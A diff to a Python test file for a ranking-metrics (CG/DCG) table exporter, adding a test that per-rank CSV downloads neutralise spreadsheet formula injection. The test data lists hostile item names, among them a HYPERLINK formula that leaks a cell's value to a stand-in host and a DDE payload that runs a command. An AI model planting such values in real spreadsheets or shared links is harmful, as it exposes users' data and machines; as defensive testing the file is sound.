@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import xml.etree.ElementTree as ET
 
 import pytest
@@ -45,7 +47,8 @@ def test_inline_data_turns_frames_into_records_and_leaves_the_spec_alone():
 def test_table_texts_use_readable_headers_and_every_format():
     texts = table_texts(display_frame(TABLE, 5), 2, as_typed=["Grade", "Ideal grade"])
     assert set(texts) == {"CSV", "Markdown", "LaTeX"}
-    assert texts["CSV"].startswith("Rank,Item,Grade,Gain,Discount,Contribution,CG,DCG,")
+    header = next(csv.reader(io.StringIO(texts["CSV"])))
+    assert header[:8] == ["Rank", "Item", "Grade", "Gain", "Discount", "Contribution", "CG", "DCG"]
     assert "| 1 | Portable Bluetooth Speaker | 0 | 0.00 | 1.00 |" in texts["Markdown"]
     assert "top 5" in texts["LaTeX"] and "beyond k" in texts["LaTeX"]
 
@@ -53,3 +56,13 @@ def test_table_texts_use_readable_headers_and_every_format():
 def test_file_stem_keeps_only_safe_characters():
     assert file_stem("CG, DCG & IDCG / rank") == "CG_DCG_IDCG_rank"
     assert file_stem("../..") == "table"
+
+
+def test_the_per_rank_download_of_hostile_names_holds_no_formula():
+    """The Playground's per-rank CSV, with item names a shared link could carry."""
+    names = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    table = ndcg_core.breakdown([3, 2, 1, 0], 3, labels=names)
+    rows = list(csv.reader(io.StringIO(table_texts(display_frame(table, 3), 2)["CSV"], newline="")))
+    items = [row[1] for row in rows[1:]]
+    assert items == ["'" + name for name in names]
+    assert rows[1][3] == "7.0"  # a number stays a number (gain 2^3 − 1)
